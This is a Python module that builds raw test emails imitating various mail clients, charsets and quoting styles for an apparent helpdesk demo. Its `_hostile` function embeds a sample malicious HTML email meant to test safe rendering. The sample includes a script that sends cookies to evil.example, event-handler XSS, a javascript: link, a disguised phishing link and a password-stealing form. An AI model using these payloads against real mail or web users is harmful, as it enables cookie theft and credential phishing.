"""Raw mails as customers' programs write them: each in its own charset, form and way of quoting.

A draft always gives the same bytes, so that an interrupted filling that offers a mail again does not double it.
"""

from __future__ import annotations

import datetime as dt
import html
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from email.header import Header
from email.message import EmailMessage, MIMEPart
from email.policy import SMTP
from email.utils import format_datetime, formataddr

from ghiseu.ops.demo.files import SampleFile
from ghiseu.ops.demo.script import Person

FORM_SENDER = "forms@pridvor.example"


@dataclass(frozen=True, slots=True)
class Quoted:
    """The message of ours that a mail answers."""

    message_id: str
    references: str
    name: str
    address: str
    text: str
    at: dt.datetime


@dataclass(frozen=True, slots=True)
class Draft:
    """What somebody is about to send. `shape` overrides what their program would make of it."""

    person: Person
    sender: str
    to: str
    subject: str
    text: str
    message_id: str
    at: dt.datetime
    shape: str = ""
    files: tuple[SampleFile, ...] = ()
    quoted: Quoted | None = None


def raw_mail(draft: Draft) -> bytes:
    """The mail as it travels (RFC 5322), lines ended by CRLF."""
    program = PROGRAMS[draft.shape or draft.person.program]
    message = program.body(draft)
    for file in draft.files:
        if not file.content_id:
            kind, subtype = file.content_type.split("/")
            message.add_attachment(file.content, kind, subtype, filename=file.filename)
    for number, part in enumerate(message.walk()):
        if part.get_content_maintype() == "multipart":
            part.set_boundary(f"=_{draft.message_id.partition('@')[0]}_{number}")
    fields = {**_fields(draft, program.charset(draft.person.language)), **program.fields}
    head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
    return head.encode("ascii") + message.as_bytes(policy=SMTP)


def _fields(draft: Draft, charset: str) -> dict[str, str]:
    fields = {
        "From": formataddr((_words(draft.person.name, charset), draft.sender)),
        "To": draft.to,
        "Subject": _words(draft.subject, charset),
        "Date": format_datetime(draft.at),
        "Message-ID": f"<{draft.message_id}>",
    }
    if draft.quoted:
        fields["In-Reply-To"] = f"<{draft.quoted.message_id}>"
        fields["References"] = f"{draft.quoted.references} <{draft.quoted.message_id}>".strip()
    return fields


def _words(text: str, charset: str) -> str:
    """Encoded words in the program's charset (RFC 2047); plain ASCII as it is."""
    if text.isascii():
        return text
    return Header(_old(text, charset), charset, maxlinelen=70).encode(linesep="\r\n")


# --- bodies ----------------------------------------------------------------------------------------------------------


def _plain(draft: Draft, charset: str = "utf-8") -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    text = _old(draft.text + _quote_text(draft), charset)
    message.set_content(text, charset=charset, cte="base64" if draft.person.program == "phone" else None)
    return message


def _old_plain(draft: Draft) -> EmailMessage:
    charset = _old_charset(draft.person.language)
    message = EmailMessage(policy=SMTP)
    message.set_content(_old(draft.text + _quote_text(draft), charset), charset=charset, cte="quoted-printable")
    return message


def _alternative(draft: Draft) -> EmailMessage:
    message = _plain(draft)
    message.add_alternative(_page(draft, "gmail_quote"), subtype="html")
    return message


def _outlook(draft: Draft) -> EmailMessage:
    charset = _windows_charset(draft.person.language)
    message = _plain(draft, charset)
    page = _old(_page(draft, "x_OutlookMessageHeader"), charset)
    message.add_alternative(page, subtype="html", charset=charset, cte="quoted-printable")
    return message


def _html_only(draft: Draft) -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    message.set_content(_page(draft, "yandex-quote"), subtype="html", cte="base64")
    return message


def _inline(draft: Draft) -> EmailMessage:
    """HTML that shows its own picture by Content-ID (RFC 2392)."""
    message = _plain(draft)
    pictures = "".join(f'<p><img src="cid:{file.content_id}" alt=""></p>' for file in draft.files if file.content_id)
    message.add_alternative(_page(draft, "gmail_quote").replace("</body>", f"{pictures}</body>"), subtype="html")
    _text, page = message.iter_parts()
    for file in draft.files:
        if file.content_id:
            kind, subtype = file.content_type.split("/")
            cid = f"<{file.content_id}>"
            page.add_related(file.content, kind, subtype, cid=cid, filename=file.filename, disposition="inline")
    return message


def _phone(draft: Draft) -> EmailMessage:
    language = draft.person.language
    signed = f"{draft.text}\n\n{_SENT_FROM[language]}"
    return _plain(replace(draft, text=signed))


def _form(draft: Draft) -> EmailMessage:
    """What the form on the company's own site sends."""
    name, address, site, message = _FORM_LABELS[draft.person.language]
    lines = [f"{name}: {draft.person.name}", f"{address}: {draft.sender}"]
    lines += [f"{site}: {draft.person.site}"] if draft.person.site else []
    text = "\n".join([*lines, "", f"{message}:", draft.text])
    return _plain(replace(draft, text=text))


def _hostile(draft: Draft) -> EmailMessage:
    """Everything that a page must not do, in one mail."""
    message = _plain(draft)
    message.add_alternative(
        f"""<html><head><style>body {{ display: none }} .ticket {{ color: red !important }}</style>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="alert(1)"><div style="position:fixed;inset:0;background:red;z-index:99999">{html.escape(draft.text)}</div>
<img src=x onerror="alert(2)"><img src="https://evil.example/pixel.gif" width="1" height="1">
<a href="javascript:alert(3)">Claim your prize</a> <a href="https://evil.example/login">https://pridvor.example/login</a>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>
<svg><animate onbegin="alert(4)"/></svg><iframe src="https://evil.example/"></iframe>
<table background="https://evil.example/bg.png"><tr><td>&lt;script&gt;alert(5)&lt;/script&gt;</td></tr></table></body></html>""",
        subtype="html",
    )
    return message


def _feedback(draft: Draft) -> EmailMessage:
    """A report by a machine (RFC 5965): a text for people, one for machines, the mail itself."""
    message = EmailMessage(policy=SMTP)
    message["Content-Type"] = "multipart/report; report-type=feedback-report"
    address = draft.subject.rsplit(maxsplit=1)[-1]
    people = MIMEPart(policy=SMTP)
    people.set_content(draft.text)
    machines = MIMEPart(policy=SMTP)
    machines["Content-Type"] = "message/feedback-report"
    machines.set_payload(
        "Feedback-Type: abuse\r\nUser-Agent: Example-Feedback/1.2\r\nVersion: 1\r\n"
        f"Source-IP: {address}\r\nReported-Domain: pridvor.example\r\nIncidents: 14\r\n"
    )
    original = EmailMessage(policy=SMTP)
    original["From"] = "winner@shop-bonus.example"
    original["Subject"] = "Only today: 90 % off"
    original["Message-ID"] = f"<original.{draft.message_id}>"
    original.set_content("Click here before midnight.")
    attached = MIMEPart(policy=SMTP)
    attached.set_content(original)
    message.set_payload([people, machines, attached])
    return message


# --- quoting ---------------------------------------------------------------------------------------------------------


def _quote_text(draft: Draft) -> str:
    if draft.quoted is None:
        return ""
    lines = "\n".join(f"> {line}".rstrip() for line in draft.quoted.text.splitlines())
    return f"\n\n{_attribution(draft.person, draft.quoted)}\n{lines}\n"


def _page(draft: Draft, quote_class: str) -> str:
    parts = [_paragraphs(draft.text)]
    if draft.quoted:
        line = html.escape(_attribution(draft.person, draft.quoted))
        parts.append(
            f'<div class="{quote_class}"><div dir="ltr">{line}</div>'
            f"<blockquote>{_paragraphs(draft.quoted.text)}</blockquote></div>"
        )
    return f"<html><body>{''.join(parts)}</body></html>"


def _paragraphs(text: str) -> str:
    return "".join(f"<p>{html.escape(part).replace(chr(10), '<br>')}</p>" for part in text.split("\n\n"))


def _attribution(person: Person, quoted: Quoted) -> str:
    date, time = f"{quoted.at:%d.%m.%Y}", f"{quoted.at:%H:%M}"
    who = f"{quoted.name} <{quoted.address}>"
    return _ATTRIBUTIONS[person.language].format(date=date, time=time, who=who)


_ATTRIBUTIONS = {
    "ro": "Pe {date}, {time}, {who} a scris:",
    "ru": "{date} {time}, {who} пишет:",
    "uk": "{date} {time}, {who} пише:",
    "en": "On {date} {time}, {who} wrote:",
}
_SENT_FROM = {
    "ro": "Trimis de pe iPhone-ul meu",
    "ru": "Отправлено с iPhone",
    "uk": "Надіслано з iPhone",
    "en": "Sent from my iPhone",
}
_FORM_LABELS = {
    "ro": ("Nume", "E-mail", "Site", "Mesaj"),
    "ru": ("Имя", "E-mail", "Сайт", "Сообщение"),
    "uk": ("Ім'я", "E-mail", "Сайт", "Повідомлення"),
    "en": ("Name", "E-mail", "Site", "Message"),
}


# --- charsets --------------------------------------------------------------------------------------------------------

# ISO 8859-2 knows the Romanian letters only with a cedilla, and no old charset all the marks that we type today.
_CEDILLA = str.maketrans("șțȘȚ", "şţŞŢ")
_OLD_MARKS = str.maketrans(
    {"„": '"', "”": '"', "“": '"', "«": '"', "»": '"', "—": "-", "–": "-", "’": "'", "…": "...", "№": "N"}
)


def _old(text: str, charset: str) -> str:
    """The text as far as the charset can say it; people at old programs see a question mark for the rest."""
    if charset == "utf-8":
        return text
    plain = text.translate(_CEDILLA).translate(_OLD_MARKS)
    return plain.encode(charset, "replace").decode(charset)


def _old_charset(language: str) -> str:
    return {"ro": "iso-8859-2", "ru": "koi8-r", "uk": "koi8-u", "en": "us-ascii"}[language]


def _windows_charset(language: str) -> str:
    return {"ro": "windows-1250", "ru": "windows-1251", "uk": "windows-1251", "en": "windows-1252"}[language]


@dataclass(frozen=True, slots=True)
class Program:
    """A mail program: how it writes the body, its header fields, its charset by language."""

    body: Callable[[Draft], EmailMessage]
    fields: Mapping[str, str]
    charset: Callable[[str], str] = lambda _language: "utf-8"


PROGRAMS: Mapping[str, Program] = {
    "gmail": Program(_alternative, {}),
    "outlook": Program(_outlook, {"X-Mailer": "Microsoft Outlook 16.0"}, _windows_charset),
    "thunderbird": Program(_plain, {"User-Agent": "Mozilla Thunderbird"}),
    "phone": Program(_phone, {"X-Mailer": "iPhone Mail (22B91)"}),
    "yandex": Program(_html_only, {"X-Mailer": "Yamail [ http://yandex.ru ] 5.0"}),
    "old": Program(_old_plain, {"X-Mailer": "The Bat! (v3.99) Professional"}, _old_charset),
    "form": Program(_form, {"Sender": FORM_SENDER, "X-Mailer": "Pridvor forms"}),
    "inline": Program(_inline, {}),
    "hostile": Program(_hostile, {"Precedence": "bulk", "X-Ghiseu-Queue": "Abuse"}),
    "auto-reply": Program(_plain, {"Auto-Submitted": "auto-replied", "X-Auto-Response-Suppress": "All"}),
    "arf": Program(_feedback, {"Auto-Submitted": "auto-generated"}),
}
